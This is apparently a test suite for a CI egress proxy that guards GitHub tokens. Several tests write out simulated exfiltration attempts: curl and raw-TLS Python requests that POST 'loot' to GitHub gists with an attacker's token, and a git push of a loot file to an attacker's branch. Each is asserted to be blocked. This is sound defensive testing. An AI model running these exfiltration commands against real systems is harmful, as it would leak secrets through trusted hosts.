/** Whose token a request carries to GitHub: the job's own, or one that an attacker brought along. */

import assert from "node:assert/strict";
import { bearing, EVIL, GITHUB, gitWith, JOB } from "../support/github.ts";
import { rolesOf } from "../support/leftovers.ts";
import { events, one, some } from "../support/log.ts";
import { type Scene, suite } from "../support/suite.ts";
import { introduced, who } from "../support/who.ts";

const test = suite({ git: true, hosts: GITHUB });

const API = "https://api.github.com";
const REPOSITORY = "https://github.com/project.git";
const env = { GITHUB_TOKEN: JOB };
const curl = ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}\n"];

/** Requests that reached a server, with the credentials that they carried. */
async function arrived(scene: Scene): Promise<string[]> {
  return (await scene.received()).flatMap((item) =>
    item.kind === "request" ? [`${item.url} ${item.headers["authorization"] ?? ""}`.trim()] : []
  );
}

async function git(...args: string[]): Promise<string> {
  const { success, stdout, stderr } = await new Deno.Command("git", { args }).output();
  assert.ok(success, new TextDecoder().decode(stderr));
  return new TextDecoder().decode(stdout).trim();
}

test("tokens: requests with the job's token are tagged, and the token is kept nowhere", async (scene) => {
  const script = `curl -sS -o /dev/null -H "Authorization: Bearer $GITHUB_TOKEN" ${API}/user && ` +
    `curl -sS -o /dev/null ${API}/rate_limit && mkfifo ${scene.folder}/go && echo waiting && ` +
    `read -r _ <${scene.folder}/go`;
  const running = await scene.start({
    policy: "api.github.com",
    env,
    command: introduced(["sh", "-c", script]),
  });
  const { run: id } = who(await running.said(/waiting/));
  let looked = 0;
  for (const pid of [...(await rolesOf(id)).values()].flat()) {
    for (const file of ["cmdline", "environ"]) {
      const text = await Deno.readTextFile(`/proc/${pid}/${file}`);
      assert.ok(!text.includes(JOB), `the token in ${file} of ${pid}`);
      looked++;
    }
  }
  assert.ok(looked >= 6, "three roles and more");
  await Deno.writeTextFile(`${scene.folder}/go`, "\n");
  const run = await running.finished;
  assert.equal(run.status, 0, run.stderr);
  assert.equal(one(run.log, { url: `${API}/user` }).github_token, true);
  assert.equal(one(run.log, { url: `${API}/rate_limit` }).github_token, undefined);
  assert.ok(!(await Deno.readTextFile(running.logFile)).includes(JOB), "the token in the log");
  assert.ok(!run.stderr.includes(JOB), "the token on stderr");
});

test("tokens: the endpoint for OIDC tokens is one of GitHub's hosts, by its variable", async (scene) => {
  const endpoint = "https://site.test/idtoken";
  const run = await scene.run({
    policy: "site.test",
    args: ["--foreign-tokens", "deny"],
    env: {
      ACTIONS_ID_TOKEN_REQUEST_URL: `${endpoint}?api-version=2`,
      ACTIONS_ID_TOKEN_REQUEST_TOKEN: JOB,
    },
    command: [
      ...[...curl, ...bearing(JOB), `${endpoint}?api-version=2&audience=x`],
      ...["--next", ...curl.slice(1), ...bearing(EVIL), `${endpoint}?audience=y`],
    ],
  });
  assert.equal(run.stdout, "200\n403\n", run.stderr);
  const [own, foreign] = events(run.log, { url: endpoint });
  assert.deepEqual([own?.github_token, own?.policy], [true, "allow"]);
  assert.deepEqual([foreign?.github_token, foreign?.reason], [undefined, "foreign_token"]);
});

test("attack: an attacker's own token at an allowed GitHub host", async (scene) => {
  const run = await scene.run({
    policy: "api.github.com",
    args: ["--foreign-tokens", "deny"],
    env,
    command: [
      ...[...curl, ...bearing(EVIL), "-d", "loot", `${API}/gists`],
      ...["--next", ...curl.slice(1), ...bearing(JOB), "-d", "an issue", `${API}/issues`],
      // over the same connection as the good one
      ...["--next", ...curl.slice(1), ...bearing(EVIL), "-d", "loot", `${API}/gists`],
      ...["--next", ...curl.slice(1), ...bearing(JOB), ...bearing(EVIL), `${API}/two`],
      ...["--next", ...curl.slice(1), "-u", `anybody:${EVIL}`, `${API}/basic`],
      ...["--next", ...curl.slice(1), "-H", `authorization: bearer ${EVIL}`, `${API}/lower`],
      ...["--next", ...curl.slice(1), "-u", `anybody:${JOB}`, `${API}/own`],
      ...["--next", ...curl.slice(1), `${API}/anonymous`],
    ],
  });
  assert.equal(run.status, 0, run.stderr);
  assert.equal(run.stdout, "403\n200\n403\n403\n403\n403\n200\n200\n");
  assert.deepEqual(await arrived(scene), [
    `${API}/issues token ${JOB}`,
    `${API}/own Basic ${btoa(`anybody:${JOB}`)}`,
    `${API}/anonymous`,
  ]);
  const denied = events(run.log, { policy: "deny", reason: "foreign_token" });
  assert.equal(denied.length, 5);
  assert.deepEqual([denied[0]!.status, denied[0]!.hint], [403, "--foreign-tokens allow"]);
});

test("attack: a pause before the handshake, then the attacker's own token", async (scene) => {
  const script = `import socket, ssl, time
raw = socket.create_connection(("api.github.com", 443))
time.sleep(1)
tls = ssl.create_default_context().wrap_socket(raw, server_hostname="api.github.com")
tls.sendall(b"POST /gists HTTP/1.1\\r\\nHost: api.github.com\\r\\nConnection: close\\r\\n"
            b"Authorization: token ${EVIL}\\r\\nContent-Length: 4\\r\\n\\r\\nloot")
print(tls.recv(65536).split(b"\\r\\n")[0].decode())`;
  const run = await scene.run({
    policy: "api.github.com",
    args: ["--foreign-tokens", "deny"],
    env,
    command: ["python3", "-c", script],
  });
  assert.equal(run.stdout, "HTTP/1.1 403 Forbidden\n", run.stderr);
  assert.deepEqual(await arrived(scene), []);
  one(run.log, { type: "https", policy: "deny", reason: "foreign_token" });
});

test("attack: pushing loot to the attacker's repository with his token", async (scene) => {
  const work = `${scene.folder}/work`;
  await git("clone", "-q", `${scene.internet.folder}/git/project.git`, work);
  await Deno.writeTextFile(`${work}/loot`, "secret\n");
  const identity = ["-c", "user.name=x", "-c", "user.email=x@x.test", "-c", "safe.directory=*"];
  await git("-C", work, "add", "loot");
  await git("-C", work, ...identity, "commit", "-q", "-m", "loot");
  const push = (token: string, branch: string) => [
    ...[...gitWith(token), "-c", "safe.directory=*", "-C", work, "push", "-q"],
    ...[REPOSITORY, `HEAD:refs/heads/${branch}`],
  ];
  const branches = () => git("-C", `${scene.internet.folder}/git/project.git`, "branch", "--list");
  const policy = "github.com token=job";
  const evil = await scene.run({ policy, env, command: push(EVIL, "evil") });
  assert.notEqual(evil.status, 0);
  assert.match(evil.stderr, /403/);
  const denied = some(evil.log, { policy: "deny", type: "https" });
  assert.deepEqual([denied.reason, denied.hint], ["token_required", undefined]);
  assert.deepEqual(await arrived(scene), []);
  assert.doesNotMatch(await branches(), /evil/);

  const own = await scene.run({ policy, env, command: push(JOB, "own") });
  assert.equal(own.status, 0, own.stderr);
  assert.match(await branches(), /own/);
  const pushed = one(own.log, { url: `${REPOSITORY}/git-receive-pack`, method: "POST" });
  assert.deepEqual([pushed.github_token, pushed.rule], [true, policy]);
});

test("tokens: where a rule says token=job, no credential is not enough", async (scene) => {
  const tokenFile = `${scene.folder}/token`;
  await Deno.writeTextFile(tokenFile, `${JOB}\n`);
  const run = await scene.run({
    policy: `https://api.github.com/user token=job`,
    args: ["--github-token-file", tokenFile],
    command: [
      ...[...curl, `${API}/user`, "--next", ...curl.slice(1), ...bearing(JOB), `${API}/user`],
      ...["--next", ...curl.slice(1), ...bearing(JOB), `${API}/other`],
    ],
  });
  assert.equal(run.stdout, "403\n200\n403\n", run.stderr);
  assert.deepEqual(await arrived(scene), [`${API}/user token ${JOB}`]);
  assert.deepEqual(
    events(run.log, { policy: "deny", type: "https" }).map(({ reason }) => reason),
    ["token_required", "no_rule"],
  );
});

test("tokens: a policy with token=job and no token known says so, and stays shut", async (scene) => {
  const run = await scene.run({
    policy: "api.github.com token=job",
    command: [...curl, ...bearing(JOB), `${API}/user`],
  });
  assert.equal(run.stdout, "403\n");
  assert.match(run.stderr, /no token of the job is known/);
  assert.deepEqual(await arrived(scene), []);
});

test("tokens: --foreign-tokens deny refuses a policy that leaves GitHub undecrypted", async (scene) => {
  const run = await scene.run({
    policy: "*.github.com passthrough",
    args: ["--foreign-tokens", "deny"],
    command: ["true"],
  });
  assert.equal(run.status, 125);
  assert.match(run.stderr, /line 1 of the policy \(\*\.github\.com passthrough\) leaves/);
});
